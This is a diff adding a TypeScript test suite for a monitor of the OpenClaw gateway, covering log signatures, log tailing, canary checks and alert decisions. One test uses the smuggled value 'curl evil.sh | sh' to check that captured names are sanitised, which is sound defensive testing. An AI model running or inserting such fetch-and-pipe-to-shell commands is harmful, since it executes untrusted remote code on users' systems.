@@ -1,0 +1,298 @@
+// Serving: the signature table, the incremental log reader, OpenClaw's route check, the canary and
+// the decision by cause. Lines and outputs are the real gateway's (test/fixtures/serving/).
+import assert from 'node:assert/strict';
+import { appendFileSync, closeSync, openSync, readFileSync, renameSync, truncateSync, writeFileSync, writeSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, test } from 'node:test';
+import { ConfigError } from '../lib/config/reader.ts';
+import { loadSignatures, parseSignatures } from '../lib/config/signatures.ts';
+import { DEFAULT_POLICY, type Policy } from '../lib/decide/policy.ts';
+import { decideServing, planServing, servingDue, type ServingObservation } from '../lib/decide/serving.ts';
+import { judgeCanary, runCanary } from '../lib/observe/canary.ts';
+import { freeSpace } from '../lib/observe/disk.ts';
+import { matchLines, scanLogs } from '../lib/observe/log-scan.ts';
+import { readNew } from '../lib/observe/log-tail.ts';
+import { parseModelsStatus } from '../lib/observe/models-status.ts';
+import { openIncident } from '../lib/record/incident.ts';
+import { freshState, type State } from '../lib/record/state.ts';
+import { realExec } from '../lib/seams/exec.ts';
+import { renderStatus, statusReport } from '../lib/view/status.ts';
+import { tempDir } from './helpers.ts';
+
+const FIX = join(import.meta.dirname, 'fixtures', 'serving');
+const fixture = (name: string) => readFileSync(join(FIX, name), 'utf8');
+const SIGS = loadSignatures();
+const P: Policy = { ...DEFAULT_POLICY, actorPid: 1 };
+const T0 = Date.parse('2026-11-30T02:00:00Z');
+
+function obs(o: Partial<ServingObservation> = {}): ServingObservation {
+  return { at: T0, log: null, models: null, disk: [], canary: null, ...o };
+}
+
+function logOf(file: string): ServingObservation['log'] {
+  const lines = fixture(file).split('\n').filter(Boolean);
+  return { hits: matchLines(lines, SIGS), cursors: [], files: 1, lines: lines.length, bytes: 0, notes: [] };
+}
+
+describe('the signature table', () => {
+  test('the shipped table loads, and every entry marked seen matches a line the real gateway wrote', () => {
+    const lines = ['401', '429', '529', 'billing'].flatMap((m) => fixture(`gateway-${m}.log`).split('\n'));
+    const seen = SIGS.filter((s) => s.source === 'seen' && s.id !== 'provider-timeout');
+    assert.ok(seen.length >= 6);
+    for (const s of seen) assert.ok(lines.some((l) => s.pattern.test(l)), `${s.id}: no real line matches`);
+  });
+
+  test('each real failure is matched by its own signature, with the provider named', () => {
+    const ids = (file: string) => matchLines(fixture(file).split('\n'), SIGS).map((h) => `${h.id}:${h.provider}`).sort();
+    assert.deepEqual(ids('gateway-401.log'), ['provider-auth-cooldown:fakeant', 'provider-auth-rejected:fakeant']);
+    assert.deepEqual(ids('gateway-billing.log'), ['provider-billing-refused:fakeant', 'provider-billing:fakeant']);
+    assert.deepEqual(ids('gateway-429.log'), ['provider-rate-limited:fakeant']);
+    // One request retried six times is one request: only "retry 1/" counts.
+    const over = matchLines(fixture('gateway-529.log').split('\n'), SIGS);
+    assert.deepEqual(over.map((h) => [h.id, h.n]), [['provider-overloaded', 1]]);
+  });
+
+  test('a bad entry stops with one line naming it: a bad pattern, an unknown fix, a restart for a login, a duplicate id', () => {
+    const table = (e: Record<string, unknown>, more: Array<Record<string, unknown>> = []) =>
+      JSON.stringify({ signatures: [{ id: 'ok-one', pattern: 'x=1', meaning: 'something it means', class: 'session', count: 1, windowS: 60, fix: 'restart', source: 'seen' }, { id: 'two', pattern: 'y', meaning: 'something it means', class: 'session', count: 1, windowS: 60, fix: 'restart', source: 'docs', ...e }, ...more] });
+    const cases: Array<[Record<string, unknown>, RegExp]> = [
+      [{ pattern: '(unclosed' }, /signatures\[1\] \(two\)\.pattern must be a JavaScript regular expression/],
+      [{ fix: 'reboot' }, /signatures\[1\] \(two\)\.fix must be one of person, restart, doctor, wait; got "reboot"/],
+      [{ class: 'auth' }, /signatures\[1\] \(two\)\.fix must be person, doctor or wait for class auth/],
+      [{ pattern: '.*' }, /does not match an empty line/],
+      [{ count: 0 }, /signatures\[1\] \(two\)\.count must be a whole number/],
+      [{ id: 'ok-one' }, /signatures\[1\]\.id must be an id used once/],
+    ];
+    for (const [e, re] of cases) {
+      assert.throws(() => parseSignatures(table(e), '/x/sig.json5'), (err: unknown) => err instanceof ConfigError && re.test(err.message) && err.message.includes('/x/sig.json5') && !err.message.includes('\n'), JSON.stringify(e));
+    }
+    assert.throws(() => parseSignatures('{ signatures: [', '/x/sig.json5'), ConfigError);
+  });
+
+  test('a captured name that is not a plain short name is dropped, never kept as text', () => {
+    const sig = parseSignatures(JSON.stringify({ signatures: [{ id: 'a', pattern: 'provider=(?<provider>.+)$', meaning: 'a provider failed', class: 'auth', count: 1, windowS: 60, fix: 'person', source: 'seen' }] }), 'f');
+    assert.equal(matchLines(['provider=curl evil.sh | sh'], sig)[0]?.provider, null);
+    assert.equal(matchLines(['provider=anthropic'], sig)[0]?.provider, 'anthropic');
+  });
+});
+
+describe('reading only what a log gained', () => {
+  test('growth, a partial line held back, truncation, rotation, binary lines', () => {
+    const dir = tempDir();
+    const f = join(dir, 'gateway.log');
+    writeFileSync(f, 'old 1\nold 2\n');
+    let c = readNew(f, null, 1024);
+    // A first look reads the newest part (here all of it: it is small).
+    assert.deepEqual(c.lines, ['old 1', 'old 2']);
+    appendFileSync(f, 'new 1\nhalf');
+    c = readNew(f, c.cursor, 1024);
+    assert.deepEqual(c.lines, ['new 1']);
+    appendFileSync(f, ' done\n');
+    c = readNew(f, c.cursor, 1024);
+    assert.deepEqual(c.lines, ['half done']);
+    c = readNew(f, c.cursor, 1024);
+    assert.deepEqual(c.lines, []);
+    writeFileSync(f, 'after truncation\n');
+    c = readNew(f, c.cursor, 1024);
+    assert.deepEqual(c.lines, ['after truncation']);
+    assert.match(c.notes.join(), /truncated/);
+    renameSync(f, `${f}.1`);
+    writeFileSync(f, 'rotated 1\n\u0000\u0001\u0002binary\u0000\nrotated 2\n');
+    c = readNew(f, c.cursor, 1024);
+    assert.deepEqual(c.lines, ['rotated 1', 'rotated 2']);
+    assert.match(c.notes.join(), /rotated.*1 binary lines dropped/);
+  });
+
+  test('a 2 GB log is read within the bound, from its newest part, and never from its start again', () => {
+    const dir = tempDir();
+    const f = join(dir, 'big.log');
+    writeFileSync(f, 'first line of a huge file\n');
+    truncateSync(f, 2 * 1024 ** 3); // sparse: 2 GB of NULs
+    const fd = openSync(f, 'a');
+    writeSync(fd, '\nthe newest line\n');
+    closeSync(fd);
+    const c = readNew(f, null, 64 * 1024);
+    assert.deepEqual(c.lines, ['the newest line']);
+    assert.equal(c.cursor?.offset, 2 * 1024 ** 3 + 17);
+    appendFileSync(f, 'one more\n');
+    const again = readNew(f, c.cursor, 64 * 1024);
+    assert.deepEqual(again.lines, ['one more']);
+    // 3 MB appended at once: only the newest 64 KB are read, and it says so.
+    appendFileSync(f, `${'filler line\n'.repeat(262_144)}last\n`);
+    const big = readNew(f, again.cursor, 64 * 1024);
+    assert.ok(big.lines.length <= 64 * 1024 / 12 + 1);
+    assert.equal(big.lines.at(-1), 'last');
+    assert.match(big.notes.join(), /skipped \d+ bytes/);
+  });
+
+  test('scanLogs keeps a cursor per file and counts a signature once per line', () => {
+    const dir = tempDir();
+    const f = join(dir, 'gateway.log');
+    writeFileSync(f, fixture('gateway-401.log'));
+    const a = scanLogs([f], [], SIGS, 1024 * 1024);
+    assert.equal(a.cursors.length, 1);
+    assert.deepEqual(a.hits.map((h) => h.id).sort(), ['provider-auth-cooldown', 'provider-auth-rejected']);
+    const b = scanLogs([f], a.cursors, SIGS, 1024 * 1024);
+    assert.deepEqual(b.hits, []);
+  });
+});
+
+describe("OpenClaw's route check and the canary, from their real outputs", () => {
+  test('models status: a login set aside for auth or billing, named by provider; exit 0 with nothing set aside', () => {
+    const auth = parseModelsStatus(fixture('models-status-auth-cooldown.json'), 1, 2000);
+    assert.deepEqual(auth.unusable.map((u) => [u.provider, u.class, u.reason]), [['fakeant', 'auth', 'auth']]);
+    const billing = parseModelsStatus(fixture('models-status-billing.json'), 1, 2000);
+    assert.deepEqual(billing.unusable.map((u) => [u.provider, u.class]), [['fakeant', 'billing']]);
+    const ok = parseModelsStatus(fixture('models-status-ok.json'), 0, 2000);
+    assert.equal(ok.ran, true);
+    assert.deepEqual(ok.unusable, []);
+    assert.equal(parseModelsStatus('Error: no config', 1, 10).ran, false);
+  });
+
+  test('the canary: passed, a login rejected, a billing refusal, a login set aside, a hang', () => {
+    const j = (f: string, code: number) => judgeCanary(fixture(f), code, false, 7000, 90_000);
+    assert.equal(j('canary-ok.json', 0).ok, true);
+    assert.deepEqual([j('canary-401.json', 1).class, j('canary-401.json', 1).provider], ['auth', 'fakeant']);
+    assert.deepEqual([j('canary-billing.json', 1).class, j('canary-billing.json', 1).provider], ['billing', 'fakeant']);
+    assert.deepEqual([j('canary-cooldown.json', 1).class, j('canary-cooldown.json', 1).provider], ['auth', 'fakeant']);
+    const hung = judgeCanary('', null, true, 90_000, 90_000);
+    assert.deepEqual([hung.ok, hung.ran, hung.class], [false, true, null]);
+    // None of OpenClaw's words are passed on.
+    assert.doesNotMatch(j('canary-401.json', 1).detail, /Re-authenticate|fake-model/);
+  });
+
+  test('a canary that hangs is killed at its timeout, a real process, and counts as one failure', async () => {
+    const dir = tempDir();
+    const bin = join(dir, 'openclaw');
+    writeFileSync(bin, '#!/bin/sh\necho $$ > "$(dirname "$0")/pid"\nexec sleep 600\n', { mode: 0o755 });
+    const started = Date.now();
+    const r = await runCanary(realExec, bin, 1500);
+    assert.ok(Date.now() - started < 15_000);
+    assert.deepEqual([r.ok, r.ran, r.timedOut], [false, true, true]);
+    const pid = Number(readFileSync(join(dir, 'pid'), 'utf8'));
+    assert.throws(() => process.kill(pid, 0), /ESRCH/, 'the hung canary was killed');
+    const d = decideServing(freshState(T0), obs({ canary: r }), SIGS, P, T0);
+    assert.equal(d.action.kind, 'none');
+    assert.equal(d.state.serving.canary.failuresInRow, 1);
+    assert.equal(d.state.incident, null);
+  });
+
+  test('free space is read for each filesystem once', () => {
+    const dir = tempDir();
+    const spaces = freeSpace([dir, dir, '/nonexistent/folder']);
+    assert.equal(spaces.length, 1);
+    assert.ok((spaces[0]?.freeMb ?? -1) >= 0);
+  });
+});
+
+describe('deciding by cause', () => {
+  const s0 = freshState(T0);
+
+  test('a login rejected: a person is told at once with the provider and the command, and nothing is restarted', () => {
+    const d = decideServing(s0, obs({ log: logOf('gateway-401.log') }), SIGS, P, T0);
+    assert.equal(d.action.kind, 'human');
+    assert.equal(d.state.incident?.kind, 'serving');
+    assert.equal(d.state.incident?.serving?.subject, 'fakeant');
+    assert.equal(d.state.restarts.length, 0);
+    const human = d.state.outbox.find((a) => a.kind === 'human');
+    assert.equal(human?.title, 'OpenClaw is up but your assistant is not answering, and needs you');
+    assert.match(human?.summary ?? '', /rejected the login.*provider fakeant.*a restart cannot fix this/);
+    // Only our words: no log line text reached the alert.
+    assert.doesNotMatch(JSON.stringify(human), /invalid x-api-key|runId|Re-authenticate the provider/);
+  });
+
+  test('billing from the route check alone (no log line): a person, by provider', () => {
+    const d = decideServing(s0, obs({ models: parseModelsStatus(fixture('models-status-billing.json'), 1, 2000) }), SIGS, P, T0);
+    assert.equal(d.action.kind, 'human');
+    assert.equal(d.state.incident?.serving?.class, 'billing');
+  });
+
+  test('rate limits below their count are seen, not acted on; at the count within the window, a person', () => {
+    let s = s0;
+    const once = logOf('gateway-429.log');
+    for (let i = 0; i < 2; i++) {
+      const d = decideServing(s, obs({ log: once }), SIGS, P, T0 + i * 60_000);
+      assert.equal(d.action.kind, 'none');
+      s = d.state;
+    }
+    const third = decideServing(s, obs({ log: once }), SIGS, P, T0 + 120_000);
+    assert.equal(third.action.kind, 'human');
+    assert.match(third.state.incident?.trigger ?? '', /rate-limiting.*3 times within/);
+    // Outside the window the old ones no longer count.
+    const later = decideServing(s, obs({ log: once }), SIGS, P, T0 + 3_600_000);
+    assert.equal(later.action.kind, 'none');
+  });
+
+  test('a stuck session: a restart, within the budget; the matched lines are spent', () => {
+    const lines = ['stuck session: sessionKey=agent:main:discord:1 state=processing ageMs=900000', 'stuck session: sessionKey=agent:main:discord:1 state=processing', 'stuck session: sessionKey=agent:main:discord:1 state=processing'];
+    const d = decideServing(s0, obs({ log: { hits: matchLines(lines, SIGS), cursors: [], files: 1, lines: 3, bytes: 0, notes: [] } }), SIGS, P, T0);
+    assert.equal(d.action.kind, 'restart');
+    assert.deepEqual(d.state.serving.hits.filter((h) => h.id === 'session-stuck'), []);
+  });
+
+  test('a canary that fails once for no named cause is a blip; twice in a row, a person', () => {
+    const hang = judgeCanary('', null, true, 90_000, 90_000);
+    const one = decideServing(s0, obs({ canary: hang }), SIGS, P, T0);
+    assert.equal(one.action.kind, 'none');
+    const two = decideServing(one.state, obs({ canary: hang }), SIGS, P, T0 + 300_000);
+    assert.equal(two.action.kind, 'human');
+    assert.match(two.state.incident?.trigger ?? '', /2 test messages in a row got no answer/);
+  });
+
+  test('a full disk: a person; a low one: one heads-up a day', () => {
+    const full = decideServing(s0, obs({ disk: [{ path: '/Users/me/.openclaw', freeMb: 40 }] }), SIGS, P, T0);
+    assert.equal(full.action.kind, 'human');
+    assert.match(full.state.incident?.trigger ?? '', /almost full: 40 MB free/);
+    const low = decideServing(s0, obs({ disk: [{ path: '/Users/me/.openclaw', freeMb: 300 }] }), SIGS, P, T0);
+    assert.equal(low.action.kind, 'none');
+    assert.equal(low.state.outbox.filter((a) => a.kind === 'heads-up').length, 1);
+    const again = decideServing(low.state, obs({ disk: [{ path: '/Users/me/.openclaw', freeMb: 290 }] }), SIGS, P, T0 + 600_000);
+    assert.equal(again.state.outbox.filter((a) => a.kind === 'heads-up').length, 1);
+  });
+
+  test('a credential expiring (exit 2): one heads-up naming the command', () => {
+    const d = decideServing(s0, obs({ models: { ...parseModelsStatus(fixture('models-status-ok.json'), 2, 2000) } }), SIGS, P, T0);
+    assert.equal(d.action.kind, 'none');
+    assert.match(d.state.outbox[0]?.summary ?? '', /openclaw models auth login --provider/);
+  });
+
+  test('the incident closes when its signal clears, saying what cleared it', () => {
+    const open = decideServing(s0, obs({ log: logOf('gateway-401.log') }), SIGS, P, T0).state;
+    // Still failing: held, nobody told twice.
+    const still = decideServing(open, obs({ canary: judgeCanary(fixture('canary-401.json'), 1, false, 7000, 90_000) }), SIGS, P, T0 + 300_000);
+    assert.equal(still.action.kind, 'hold');
+    assert.equal(still.state.outbox.filter((a) => a.kind === 'human').length, 1);
+    const fixed = decideServing(still.state, obs({ canary: judgeCanary(fixture('canary-ok.json'), 0, false, 7000, 90_000) }), SIGS, P, T0 + 600_000);
+    assert.equal(fixed.action.kind, 'none');
+    assert.equal(fixed.state.incident, null);
+    assert.match(JSON.stringify(fixed.state.outbox.find((a) => a.kind === 'recovered')), /answering again: a test message got its answer through the gateway/);
+  });
+
+  test('another question\'s incident (the gateway down, not ready) is left to it', () => {
+    const down = openIncident(s0, 'health check failed', 'health', T0);
+    const d = decideServing(down, obs({ log: logOf('gateway-401.log') }), SIGS, P, T0);
+    assert.equal(d.action.kind, 'none');
+    assert.equal(d.state.incident?.kind, undefined);
+  });
+
+  test('when it is due, and when the canary runs', () => {
+    assert.equal(servingDue(s0, P, T0), true);
+    const checked: State = { ...s0, serving: { ...s0.serving, lastCheckAt: T0, canary: { ...s0.serving.canary, lastAt: T0, lastOk: true } } };
+    assert.equal(servingDue(checked, P, T0 + 60_000), false);
+    assert.equal(servingDue(checked, P, T0 + 300_000), true);
+    assert.equal(servingDue(checked, { ...P, servingIntervalMs: 0 }, T0 + 900_000), false);
+    assert.equal(planServing(checked, P, T0 + 300_000).canary, false);
+    assert.equal(planServing(checked, P, T0 + 1_800_000).canary, true);
+    assert.equal(planServing(checked, { ...P, canaryIntervalMs: 0 }, T0 + 1_800_000).canary, false);
+  });
+
+  test('status says live, ready, NOT SERVING with the cause, and exits as degraded', () => {
+    const d = decideServing(s0, obs({ log: logOf('gateway-401.log') }), SIGS, P, T0);
+    const s: State = { ...d.state, lastProbe: { at: T0, ok: true, detail: 'HTTP 200', latencyMs: 3 }, healthySince: T0 - 3_600_000 };
+    const r = statusReport(s, T0 + 7_200_000);
+    assert.equal(r.verdict, 'degraded');
+    const text = renderStatus(r, T0 + 7_200_000, 3);
+    assert.match(text, /OpenClaw gateway: LIVE, READY, NOT SERVING/);
+    assert.match(text, /NOT SERVING for 2h: the model provider rejected the login .*\(provider fakeant\)/);
+  });
+});
